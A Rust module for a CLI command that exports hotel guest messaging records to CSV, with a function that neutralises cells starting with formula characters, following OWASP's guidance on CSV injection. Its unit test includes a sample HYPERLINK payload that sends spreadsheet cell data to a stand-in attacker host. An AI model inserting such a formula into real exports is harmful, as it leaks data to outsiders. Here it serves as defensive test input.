//! `sentlog export`: streams ExportMessages from a running server into CSV (UTF-8, a
//! header row, RFC 4180 quoting, ISO 8601 dates), so a CSM can open a list of messages
//! in a spreadsheet. Memory stays flat: one message at a time from the stream. The
//! console's CSV download writes the same records.
//!
//! CSV formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or
//! `@` as a formula (tab and carriage return lead there too), and guest names and
//! campaign ids come from outside. Every such cell is written with a leading `'`, as
//! OWASP's CSV-injection guidance says, so it opens as text. That includes E.164
//! phones: written bare, `+33612345678` opens as the number 33612345678, losing its
//! `+`; written `'+33612345678`, it stays text with every digit and the `+`.
use std::io::Write;

use chrono::DateTime;
use indicatif::{ProgressBar, ProgressStyle};
use tonic::Request;
use tonic::metadata::MetadataValue;

use crate::domain::error_category::ErrorCategory;
use crate::domain::message::{Channel, MessageStatus};
use crate::proto;
use crate::proto::message_service_client::MessageServiceClient;

pub const HEADER: [&str; 27] = [
    "id",
    "hotel_id",
    "external_id",
    "created_at",
    "status",
    "status_label_fr",
    "channel",
    "recipient_phone",
    "phone_valid",
    "recipient_email",
    "guest_name",
    "campaign_id",
    "campaign_name",
    "check_in_date",
    "check_out_date",
    "provider",
    "provider_message_id",
    "template_name",
    "error_code",
    "error_category",
    "error_message",
    "status_changed_at",
    "sent_at",
    "delivered_at",
    "read_at",
    "failed_at",
    "pms_reservation_id",
];

fn time(t: &Option<prost_types::Timestamp>) -> String {
    t.as_ref()
        .and_then(|t| DateTime::from_timestamp(t.seconds, t.nanos.max(0) as u32))
        .map(|d| d.to_rfc3339_opts(chrono::SecondsFormat::Micros, true))
        .unwrap_or_default()
}

/// A cell a spreadsheet opens as text, never as a formula (see the module doc).
pub fn neutralise(cell: String) -> String {
    match cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        true => format!("'{cell}"),
        false => cell,
    }
}

/// One CSV record of a message, in HEADER's order, every cell neutralised.
pub fn record(m: &proto::Message) -> Vec<String> {
    let status = MessageStatus::from_code(m.status);
    let cells = vec![
        m.id.clone(),
        m.hotel_id.clone(),
        m.external_id.clone(),
        time(&m.created_at),
        status.map(|s| s.name().to_string()).unwrap_or_default(),
        status.map(|s| s.labels().0.to_string()).unwrap_or_default(),
        Channel::from_code(m.channel)
            .map(|c| c.name().to_string())
            .unwrap_or_default(),
        m.recipient_phone.clone(),
        m.phone_valid.to_string(),
        m.recipient_email.clone(),
        m.guest_name.clone(),
        m.campaign_id.clone(),
        m.campaign_name.clone(),
        m.check_in_date.clone(),
        m.check_out_date.clone(),
        m.provider.clone(),
        m.provider_message_id.clone(),
        m.template_name.clone(),
        m.error_code.clone(),
        ErrorCategory::from_code(m.error_category)
            .filter(|c| *c != ErrorCategory::None)
            .map(|c| c.name().to_string())
            .unwrap_or_default(),
        m.error_message.clone(),
        time(&m.status_changed_at),
        time(&m.sent_at),
        time(&m.delivered_at),
        time(&m.read_at),
        time(&m.failed_at),
        m.pms_reservation_id.clone(),
    ];
    cells.into_iter().map(neutralise).collect()
}

fn authed<T>(message: T, token: Option<&str>) -> anyhow::Result<Request<T>> {
    let mut r = Request::new(message);
    if let Some(t) = token {
        let value: MetadataValue<_> = format!("Bearer {t}").parse()?;
        r.metadata_mut().insert("authorization", value);
    }
    Ok(r)
}

/// Streams every message matching `filter` from the server at `url` into `out`.
/// Returns the number of rows written.
pub async fn export(
    url: &str,
    token: Option<&str>,
    filter: proto::MessageFilter,
    out: impl Write,
    show_progress: bool,
) -> anyhow::Result<u64> {
    let mut client = MessageServiceClient::connect(url.to_string()).await?;
    let total = client
        .count_messages(authed(
            proto::CountMessagesRequest {
                filter: Some(filter.clone()),
            },
            token,
        )?)
        .await?
        .into_inner()
        .total;
    let bar = if show_progress {
        ProgressBar::new(total.max(0) as u64).with_style(
            ProgressStyle::with_template("export {bar:40} {pos}/{len} messages ({eta})")
                .expect("valid template"),
        )
    } else {
        ProgressBar::hidden()
    };
    let mut stream = client
        .export_messages(authed(
            proto::ExportMessagesRequest {
                filter: Some(filter),
            },
            token,
        )?)
        .await?
        .into_inner();
    let mut csv = csv::Writer::from_writer(out);
    csv.write_record(HEADER)?;
    let mut rows = 0u64;
    while let Some(m) = stream.message().await? {
        csv.write_record(record(&m))?;
        rows += 1;
        bar.inc(1);
    }
    csv.flush()?;
    bar.finish_and_clear();
    Ok(rows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formula_starters_open_as_text() {
        for (given, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+33612345678", "'+33612345678"),
            ("-1", "'-1"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Camille Martin", "Camille Martin"),
            ("2026-12-24", "2026-12-24"),
            ("", ""),
        ] {
            assert_eq!(neutralise(given.to_string()), written);
        }
    }

    proptest! {
        #[test]
        fn no_cell_starts_a_formula(cell in "\\PC{0,20}") {
            let out = neutralise(cell.clone());
            prop_assert!(!out.starts_with(['=', '+', '-', '@', '\t', '\r']));
            // Nothing is lost: the cell is the same text, marked or not.
            let marked = format!("'{}", cell);
            prop_assert!(out == cell || out == marked);
        }
    }
}
